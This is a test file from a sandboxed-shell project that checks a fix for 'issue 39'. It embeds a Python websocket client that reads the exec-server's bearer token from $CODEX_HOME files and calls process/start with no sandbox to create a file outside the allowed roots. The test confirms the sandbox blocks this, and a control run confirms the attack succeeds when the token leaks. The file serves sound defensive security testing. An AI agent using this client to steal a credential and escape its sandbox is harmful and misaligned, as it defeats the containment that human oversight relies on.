/**
 * Issue 39, item 1: the exec-server's token, kept where docs/exec-server.md says (`$CODEX_HOME/exec-server.token`,
 * and Codex's `auth_bearer_token` in `$CODEX_HOME/environments.toml`), gives no sandboxed call a way out. A `shell`
 * call of the compiled `serve` with the network on reads both files and connects to the exec-server on 127.0.0.1
 * with what it found, asking `process/start` (no sandbox) to create a file outside every writable root; judged by
 * whether that file exists on the host. A control run of the same client from the test itself, with the token, does
 * create it (the attack works when the token leaks). Before issue 39 the call read the token and the file appeared.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { closeAll, confDir, serveWithPid, token, waitFor } from "../helpers/attack.ts";
import { BINARY } from "../helpers/binary.ts";
import { skipWithout } from "../helpers/prereq.ts";
import { shellsMissing } from "../helpers/shells.ts";
import { assertOutside } from "../helpers/test-dirs.ts";

afterAll(closeAll);

/** A websocket client: reads a bearer token from each file given (a token file, or environments.toml), then asks process/start to touch MARKER. */
const CLIENT = `
import socket, os, sys, json, base64, re, time
files, port, marker = sys.argv[1].split(","), int(sys.argv[2]), sys.argv[3]
toks = []
for f in files:
    try:
        t = open(f).read()
    except OSError as e:
        print("unreadable", f, e.errno); continue
    if not t.strip():
        print("unreadable", f, "empty"); continue
    m = re.search(r'auth_bearer_token\\s*=\\s*"([^"]+)"', t)
    toks.append(m.group(1) if m else t.strip())
for tok in toks or ["none"]:
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET / HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: %s\\r\\nSec-WebSocket-Version: 13\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n" % (port, key, tok)).encode())
    resp = b""
    while b"\\r\\n\\r\\n" not in resp:
        d = s.recv(4096)
        if not d: break
        resp += d
    print("upgrade:", resp.split(b"\\r\\n")[0].decode())
    def send(obj):
        data = json.dumps(obj).encode(); mask = os.urandom(4)
        hdr = bytes([0x81]); n = len(data)
        hdr += bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, "big")
        s.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
    try:
        send({"id": 1, "method": "initialize", "params": {"clientName": "x", "resumeSessionId": None}})
        time.sleep(0.3)
        send({"method": "initialized", "params": {}})
        send({"id": 2, "method": "process/start", "params": {"processId": "p", "argv": ["/usr/bin/touch", marker], "cwd": "/", "env": {}, "tty": False, "sandbox": None}})
        time.sleep(1)
    except OSError as e:
        print("closed", e)
`;

/** Start `shellmcp exec-server` with `args` and `codexHome`; resolves with its port and a stop function. */
async function execServer(args: string[], codexHome: string): Promise<{ port: number; stop: () => Promise<void> }> {
  const es = Bun.spawn([BINARY, "exec-server", "--listen", "ws://127.0.0.1:0", ...args], {
    stdin: "ignore",
    stdout: "pipe",
    stderr: "pipe",
    env: { ...process.env, CODEX_HOME: codexHome },
  });
  const reader = es.stdout.getReader();
  let url = "";
  while (!url.includes("\n")) {
    const r = await reader.read();
    if (r.done) throw new Error(`exec-server ended: ${await new Response(es.stderr).text()}`);
    url += new TextDecoder().decode(r.value);
  }
  return {
    port: Number(new URL(url.trim()).port),
    stop: async () => {
      es.kill("SIGTERM");
      await es.exited;
    },
  };
}

/** The documented setups (docs/exec-server.md, "Connecting Codex safely"). */
const SETUPS: readonly { name: string; args: (codexHome: string) => string[]; token: (codexHome: string) => string }[] = [
  {
    name: "generated token in $CODEX_HOME/exec-server.token (--ws-token-out)",
    args: (h) => ["--ws-token-out", join(h, "exec-server.token")],
    token: (h) => readFileSync(join(h, "exec-server.token"), "utf8").trim(),
  },
  {
    name: "--ws-auth capability-token --ws-token-file $CODEX_HOME/exec-server.token",
    args: (h) => ["--ws-auth", "capability-token", "--ws-token-file", join(h, "exec-server.token")],
    token: (h) => readFileSync(join(h, "exec-server.token"), "utf8").trim(),
  },
];

describe.skipIf(skipWithout("exec-server token suite", shellsMissing()))("issue 39: no sandboxed call reaches the exec-server", () => {
  for (const backend of ["bwrap", "landlock"] as const)
    for (const setup of SETUPS)
      test(`${backend}, ${setup.name}: a call with the network on reads neither the token nor environments.toml, and runs nothing through the exec-server`, async () => {
        const base = confDir("es-token");
        const home = join(base, "home");
        const codexHome = join(home, ".codex");
        const ws = join(base, "ws");
        const outside = assertOutside(join(base, "outside"));
        for (const d of [codexHome, ws, outside]) mkdirSync(d, { recursive: true });
        if (setup.args(codexHome).includes("--ws-token-file"))
          writeFileSync(join(codexHome, "exec-server.token"), `${token()}${token()}${token()}\n`, { mode: 0o600 });
        const es = await execServer(setup.args(codexHome), codexHome);
        try {
          const tok = setup.token(codexHome);
          writeFileSync(
            join(codexHome, "environments.toml"),
            `default = "box"\ninclude_local = false\n[[environments]]\nid = "box"\nurl = "ws://127.0.0.1:${es.port}"\nauth_bearer_token = "${tok}"\n`,
            { mode: 0o600 },
          );
          writeFileSync(join(ws, "client.py"), CLIENT);
          const s = await serveWithPid({ codexHome, args: ["--sandbox-backend", backend], env: { HOME: home } });
          expect(await s.sandboxState({ type: "workspace-write", network_access: true }, ws)).toEqual({});
          const marker = join(outside, `ran-${token()}`);
          const files = [join(codexHome, "exec-server.token"), join(codexHome, "environments.toml")].join(",");
          const out = (
            await s.shell({ command: `python3 client.py ${files} ${es.port} ${marker}`, workdir: ws, login: false, timeout_ms: 30_000 })
          ).out.output;
          expect(out).toContain("unreadable");
          await Bun.sleep(500);
          expect({ out, ranOutsideTheSandbox: existsSync(marker) }).toEqual({ out, ranOutsideTheSandbox: false });
          // Control: the same client with the token (run by the test, outside every sandbox) does run it.
          const control = join(outside, `control-${token()}`);
          const p = Bun.spawnSync(["python3", "-c", CLIENT, join(codexHome, "environments.toml"), String(es.port), control]);
          expect(p.stdout.toString()).toContain("101");
          expect(await waitFor(() => existsSync(control), 5000)).toBe(true);
        } finally {
          await es.stop();
        }
      }, 90_000);
});
